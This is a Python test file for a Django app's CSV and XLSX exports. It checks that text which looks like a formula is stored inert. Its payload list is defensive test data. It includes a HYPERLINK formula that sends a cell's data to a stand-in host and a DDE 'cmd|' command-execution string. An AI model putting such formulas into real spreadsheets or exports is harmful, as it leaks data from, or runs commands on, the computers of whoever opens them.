"""Text that a spreadsheet would run as a formula is exported inert: behind a single quote in
CSV, stored as text in XLSX, in every export and the assessment workbook. Numbers stay numbers."""

import csv
import io

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse

from complaints.importer import import_complaints
from complaints.models import Complaint
from core.exports import Column, csv_response, write_xlsx
from tests.actions.factories import ActionFactory, ActionPlanFactory
from tests.assessment.factories import AssessmentFactory
from tests.complaints.factories import ComplaintFactory
from tests.findings.factories import FindingFactory, TopicFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x.example/?d="&B2,"Click")'
# Each character that starts a formula (OWASP), and the same after leading spaces.
PAYLOADS = [HYPERLINK, "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", " =1+1"]

# XML reads a carriage return in text back as a line feed: the same text, as XLSX holds it.
XLSX_TEXT = [payload.replace("\r", "\n") for payload in PAYLOADS]


def csv_table(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def xlsx_rows(response):
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return list(workbook.active.iter_rows())


def column(rows, header: str) -> list:
    index = [cell.value if hasattr(cell, "value") else cell for cell in rows[0]].index(header)
    return [row[index] for row in rows[1:]]


def make_complaints():
    for payload in PAYLOADS:
        ComplaintFactory(summary=payload)
    return reverse("complaints:complaint-export"), "summary"


def make_findings():
    for payload in PAYLOADS:
        FindingFactory(text=payload)
    return reverse("findings:finding-export"), "Finding"


def make_plans():
    for payload in PAYLOADS:
        ActionPlanFactory(title=payload)
    return reverse("actions:plan-list"), "Plan"


def make_actions():
    for payload in PAYLOADS:
        ActionFactory(title=payload)
    return reverse("actions:action-list"), "Action"


EXPORTS = [make_complaints, make_findings, make_plans, make_actions]


@pytest.fixture
def superuser_client(client, django_user_model, cqc_framework):
    client.force_login(django_user_model.objects.create_superuser("root", "r@example.org", "x"))
    return client


@pytest.mark.parametrize("make", EXPORTS)
def test_csv_exports_quote_formula_like_text(superuser_client, make):
    url, header = make()
    cells = column(csv_table(superuser_client.get(url, {"format": "csv"})), header)
    assert sorted(cells) == sorted("'" + payload for payload in PAYLOADS)


@pytest.mark.parametrize("make", EXPORTS)
def test_xlsx_exports_store_formula_like_text_as_text(superuser_client, make):
    url, header = make()
    cells = column(xlsx_rows(superuser_client.get(url, {"format": "xlsx"})), header)
    assert sorted(cell.value for cell in cells) == sorted(XLSX_TEXT)  # unchanged text
    assert {cell.data_type for cell in cells} == {"s"}  # not "f", a formula
    assert all(cell.quotePrefix for cell in cells)  # Excel keeps it text when edited


def test_the_assessment_workbook_stores_formula_like_text_as_text(superuser_client, tmp_path):
    assessment = AssessmentFactory(title="Adult social care 2024")
    topic = TopicFactory(assessment=assessment, title=HYPERLINK)
    for payload in PAYLOADS:
        FindingFactory(topic=topic, text=payload)
    url = reverse("findings:assessment-report-xlsx", args=[assessment.pk])
    response = superuser_client.get(url)
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    rows = list(workbook[workbook.sheetnames[-1]].iter_rows())  # statement 9 holds them
    for cell in [*column(rows, "Finding"), *column(rows, "Topic")]:
        assert cell.data_type == "s"
        assert cell.quotePrefix
    assert sorted(cell.value for cell in column(rows, "Finding")) == sorted(XLSX_TEXT)
    # The command writes the same workbook.
    path = tmp_path / "report.xlsx"
    call_command(
        "export_report", "--assessment", str(assessment.pk), "--format", "xlsx", "-o", str(path)
    )
    sheet = openpyxl.load_workbook(path)[workbook.sheetnames[-1]]
    assert {cell.data_type for cell in column(list(sheet.iter_rows()), "Finding")} == {"s"}


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    columns = [Column("Change", "number"), Column("Note"), Column("Ratio", "number")]
    rows = [(-5, "-5 days", -0.5), (3, "A plain note", 2.5), (None, "#N/A", None)]
    assert csv_table(csv_response("x", columns, rows))[1:] == [
        ["-5", "'-5 days", "-0.5"],
        ["3", "A plain note", "2.5"],
        ["", "#N/A", ""],
    ]
    handle = io.BytesIO()
    write_xlsx(handle, [("Sheet", columns, rows)])
    sheet = openpyxl.load_workbook(handle).active
    negative, text, ratio = next(sheet.iter_rows(min_row=2, max_row=2))
    assert (negative.value, negative.data_type) == (-5, "n")
    assert (ratio.value, ratio.data_type) == (-0.5, "n")
    assert (text.value, text.data_type, text.quotePrefix) == ("-5 days", "s", True)
    plain = sheet.cell(row=3, column=2)
    assert (plain.value, plain.quotePrefix) == ("A plain note", False)
    not_an_error = sheet.cell(row=4, column=2)  # openpyxl would store it as an error value
    assert (not_an_error.value, not_an_error.data_type) == ("#N/A", "s")


def test_an_exported_csv_imports_back_without_the_quote(superuser_client):
    complaint = ComplaintFactory(summary=HYPERLINK)
    exported = b"".join(
        superuser_client.get(reverse("complaints:complaint-export"), {"format": "csv"})
    )
    Complaint.objects.filter(pk=complaint.pk).update(summary="changed")
    import_complaints(
        user=None,
        organisation=complaint.organisation,
        filename="complaints.csv",
        content=exported,
        update_existing=True,
    )
    complaint.refresh_from_db()
    assert complaint.summary == HYPERLINK
